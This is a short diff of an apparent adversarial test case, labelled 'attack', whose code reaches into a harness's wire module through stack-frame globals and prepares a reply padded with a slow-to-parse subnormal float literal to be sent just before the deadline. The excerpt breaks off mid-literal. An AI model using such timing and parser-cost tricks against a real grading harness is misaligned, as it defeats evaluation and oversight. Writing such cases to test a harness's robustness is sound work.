@@ -1,10 +1,10 @@
 # >>> attack: the reply to the load, sent just before the deadline, padded with a float literal that is slow to
 # parse (a halfway case near the subnormal limit), just under the harness's cap on a reply
-import sys as _sys
+import inspect as _inspect, sys as _sys
 import time as _time
 
 _T0 = _time.monotonic()
-_WIRE = next(m for n, m in list(_sys.modules.items()) if n.endswith("wire") and hasattr(m, "load_ops"))
+_WIRE = next(f.frame.f_globals["wire"] for f in _inspect.stack(0) if hasattr(f.frame.f_globals.get("wire"), "load_ops"))
 _dumps = _WIRE.dumps
 _TINY = (
     "2.4703282292062327208828439643411068618252990130716238221279284125033775363510437593264991818081799618"
